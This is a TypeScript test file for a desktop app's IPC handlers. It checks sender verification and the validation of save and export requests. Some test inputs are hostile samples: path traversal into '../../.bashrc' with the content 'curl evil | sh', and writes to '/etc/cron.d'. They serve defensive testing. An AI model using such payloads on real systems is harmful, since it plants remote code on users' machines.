import { beforeEach, describe, expect, it, vi } from 'vitest';
import { HOST_CHANNELS, type HostMethod } from '../../shared/host/contract';
import { createSenderCheck, registerHostHandlers, sendHostEvent, type HostHandlers, type InvokeEvent, type IpcRegistry } from './ipc';

beforeEach(() => {
  vi.spyOn(console, 'warn').mockImplementation(() => undefined);
  vi.spyOn(console, 'error').mockImplementation(() => undefined);
});

type Listener = (event: InvokeEvent, ...args: unknown[]) => Promise<unknown>;

function fakeIpc() {
  const listeners = new Map<string, Listener>();
  const ipc: IpcRegistry = {
    handle: (channel, listener) => {
      if (listeners.has(channel)) throw new Error(`second handler for ${channel}`);
      listeners.set(channel, listener);
    },
    removeHandler: (channel) => listeners.delete(channel),
  };
  const invoke = (method: HostMethod, event: InvokeEvent, ...args: unknown[]) =>
    listeners.get(HOST_CHANNELS[method].channel)!(event, ...args);
  return { ipc, listeners, invoke };
}

function stubHandlers(overrides: Partial<HostHandlers> = {}): HostHandlers {
  return {
    openDocument: vi.fn(() => Promise.resolve({ status: 'canceled' as const })),
    openRecent: vi.fn(() => Promise.resolve({ status: 'canceled' as const })),
    saveDocument: vi.fn<HostHandlers['saveDocument']>(({ path }) =>
      Promise.resolve({ status: 'saved' as const, file: { path, name: 'a.stowage' } }),
    ),
    saveDocumentAs: vi.fn(() => Promise.resolve({ status: 'canceled' as const })),
    exportFile: vi.fn(() => Promise.resolve({ status: 'canceled' as const })),
    exportFolder: vi.fn<HostHandlers['exportFolder']>(({ suggestedName }) =>
      Promise.resolve({
        status: 'saved' as const,
        file: { path: `/exports/${suggestedName}`, name: suggestedName },
      }),
    ),
    listRecent: vi.fn(() => Promise.resolve([])),
    clearRecent: vi.fn(() => Promise.resolve(null)),
    listOwnTemplates: vi.fn(() => Promise.resolve({ folder: null, files: [], skipped: [] })),
    addOwnTemplates: vi.fn(() => Promise.resolve({ status: 'canceled' as const })),
    removeOwnTemplate: vi.fn(() => Promise.resolve({ folder: null, files: [], skipped: [] })),
    beginDrafts: vi.fn(() => Promise.resolve(null)),
    writeDraft: vi.fn(() => Promise.resolve(null)),
    readDraft: vi.fn(() => Promise.resolve(null)),
    discardDraft: vi.fn(() => Promise.resolve(null)),
    clearDraft: vi.fn(() => Promise.resolve(null)),
    confirmUnsavedChanges: vi.fn(() => Promise.resolve('cancel' as const)),
    setWindowState: vi.fn(() => Promise.resolve(null)),
    closeWindow: vi.fn(() => Promise.resolve(null)),
    openExternal: vi.fn(() => Promise.resolve(false)),
    ...overrides,
  };
}

const location = { devServerUrl: null };
const MAIN_ID = 7;
const trusted: InvokeEvent = { sender: { id: MAIN_ID }, senderFrame: { url: 'app://stowage/index.html', parent: null } };
const senderCheck = createSenderCheck(() => MAIN_ID, location);

describe('registerHostHandlers', () => {
  it('registers exactly one handler per contract channel and removes them again', () => {
    const { ipc, listeners } = fakeIpc();
    const dispose = registerHostHandlers(ipc, stubHandlers(), senderCheck);
    expect([...listeners.keys()].sort()).toEqual(
      Object.values(HOST_CHANNELS)
        .map((entry) => entry.channel)
        .sort(),
    );
    dispose();
    expect(listeners.size).toBe(0);
  });

  it('passes a valid request to its handler and returns the validated response', async () => {
    const { ipc, invoke } = fakeIpc();
    const handlers = stubHandlers();
    registerHostHandlers(ipc, handlers, senderCheck);
    await expect(invoke('saveDocument', trusted, { path: '/d/a.stowage', text: '{}' })).resolves.toEqual({
      status: 'saved',
      file: { path: '/d/a.stowage', name: 'a.stowage' },
    });
    expect(handlers.saveDocument).toHaveBeenCalledWith({ path: '/d/a.stowage', text: '{}' });
  });

  it.each([
    ['a missing field', { path: '/d/a.stowage' }],
    ['a wrong type', { path: '/d/a.stowage', text: 42 }],
    ['an unknown field', { path: '/d/a.stowage', text: '', extra: true }],
    ['an empty path', { path: '', text: '' }],
    ['no object at all', 'save please'],
  ])('rejects a request with %s before the handler runs', async (_name, payload) => {
    const { ipc, invoke } = fakeIpc();
    const handlers = stubHandlers();
    registerHostHandlers(ipc, handlers, senderCheck);
    await expect(invoke('saveDocument', trusted, payload)).rejects.toThrow(/saveDocument was refused/);
    expect(handlers.saveDocument).not.toHaveBeenCalled();
  });

  it('passes a valid exportFolder request on file:export-folder', async () => {
    const { ipc, listeners, invoke } = fakeIpc();
    const handlers = stubHandlers();
    registerHostHandlers(ipc, handlers, senderCheck);
    expect(listeners.has('file:export-folder')).toBe(true);
    const request = {
      suggestedName: 'payments',
      files: [
        { path: 'bin/app.ts', content: 'new App();' },
        { path: 'cdk.json', content: '{}' },
      ],
    };
    await expect(invoke('exportFolder', trusted, request)).resolves.toEqual({
      status: 'saved',
      file: { path: '/exports/payments', name: 'payments' },
    });
    expect(handlers.exportFolder).toHaveBeenCalledWith(request);
  });

  it.each([
    [
      'a folder name with a separator',
      { suggestedName: '../payments', files: [{ path: 'a.ts', content: '' }] },
      /suggestedName: must be a plain folder name/,
    ],
    ['an empty folder name', { suggestedName: '', files: [{ path: 'a.ts', content: '' }] }, /suggestedName/],
    [
      'a path leaving the folder',
      { suggestedName: 'app', files: [{ path: '../../.bashrc', content: 'curl evil | sh' }] },
      /files\.0\.path: must be a relative path inside the folder/,
    ],
    ['an absolute path', { suggestedName: 'app', files: [{ path: '/etc/cron.d/x', content: '' }] }, /files\.0\.path/],
    ['a Windows path', { suggestedName: 'app', files: [{ path: 'lib\\..\\..\\x', content: '' }] }, /files\.0\.path/],
    [
      'a duplicate path',
      {
        suggestedName: 'app',
        files: [
          { path: 'a.ts', content: '' },
          { path: 'A.ts', content: '' },
        ],
      },
      /files\.1\.path: “A\.ts” is listed twice/,
    ],
    ['no files', { suggestedName: 'app', files: [] }, /files/],
    ['binary content', { suggestedName: 'app', files: [{ path: 'a.bin', content: new Uint8Array(4) }] }, /files\.0\.content/],
    ['an extra field', { suggestedName: 'app', files: [{ path: 'a.ts', content: '' }], overwrite: true }, /overwrite/],
  ])('rejects an exportFolder request with %s before the handler runs', async (_name, payload, message) => {
    const { ipc, invoke } = fakeIpc();
    const handlers = stubHandlers();
    registerHostHandlers(ipc, handlers, senderCheck);
    await expect(invoke('exportFolder', trusted, payload)).rejects.toThrow(message);
    await expect(invoke('exportFolder', trusted, payload)).rejects.toThrow(/^exportFolder was refused: /);
    expect(handlers.exportFolder).not.toHaveBeenCalled();
  });

  it('rejects extra arguments', async () => {
    const { ipc, invoke } = fakeIpc();
    registerHostHandlers(ipc, stubHandlers(), senderCheck);
    await expect(invoke('listRecent', trusted, {}, 'extra')).rejects.toThrow(/exactly one request object/);
  });

  it.each([
    ['another webContents', { sender: { id: 99 }, senderFrame: { url: 'app://stowage/index.html', parent: null } }],
    ['an iframe', { sender: { id: MAIN_ID }, senderFrame: { url: 'app://stowage/index.html', parent: {} } }],
    ['a foreign page', { sender: { id: MAIN_ID }, senderFrame: { url: 'https://evil.example/', parent: null } }],
    ['a destroyed frame', { sender: { id: MAIN_ID }, senderFrame: null }],
  ])('rejects a message from %s', async (_name, event) => {
    const { ipc, invoke } = fakeIpc();
    const handlers = stubHandlers();
    registerHostHandlers(ipc, handlers, senderCheck);
    await expect(invoke('openDocument', event as InvokeEvent, {})).rejects.toThrow(/did not come from the Stowage window/);
    expect(handlers.openDocument).not.toHaveBeenCalled();
  });

  it('rejects messages before the main window exists', async () => {
    const { ipc, invoke } = fakeIpc();
    registerHostHandlers(
      ipc,
      stubHandlers(),
      createSenderCheck(() => null, location),
    );
    await expect(invoke('listRecent', trusted, {})).rejects.toThrow(/did not come from the Stowage window/);
  });

  it('accepts the dev server page in development only', () => {
    const devEvent: InvokeEvent = { sender: { id: MAIN_ID }, senderFrame: { url: 'http://localhost:5173/', parent: null } };
    expect(createSenderCheck(() => MAIN_ID, { devServerUrl: 'http://localhost:5173' })(devEvent)).toBe(true);
    expect(senderCheck(devEvent)).toBe(false);
  });

  it('refuses to return a response that breaks the contract', async () => {
    const { ipc, invoke } = fakeIpc();
    const handlers = stubHandlers({
      listRecent: vi.fn(() => Promise.resolve([{ path: '', name: 'broken' }])),
      openDocument: vi.fn(() => Promise.resolve({ status: 'opened', text: 'no file' } as never)),
    });
    registerHostHandlers(ipc, handlers, senderCheck);
    await expect(invoke('listRecent', trusted, {})).rejects.toThrow(/listRecent failed inside Stowage \(invalid response/);
    await expect(invoke('openDocument', trusted, {})).rejects.toThrow(/invalid response/);
  });
});

describe('sendHostEvent', () => {
  it('sends a valid payload on the event channel', () => {
    const contents = { send: vi.fn(), isDestroyed: () => false };
    sendHostEvent(contents, 'menuCommand', { commandId: 'file.save' });
    expect(contents.send).toHaveBeenCalledWith('menu:command', { commandId: 'file.save' });
  });

  it('throws on a payload that breaks the contract and skips destroyed windows', () => {
    const contents = { send: vi.fn(), isDestroyed: () => false };
    expect(() => sendHostEvent(contents, 'menuCommand', { commandId: 'x'.repeat(65) })).toThrow();
    const destroyed = { send: vi.fn(), isDestroyed: () => true };
    sendHostEvent(destroyed, 'closeRequested', {});
    expect(contents.send).not.toHaveBeenCalled();
    expect(destroyed.send).not.toHaveBeenCalled();
  });
});
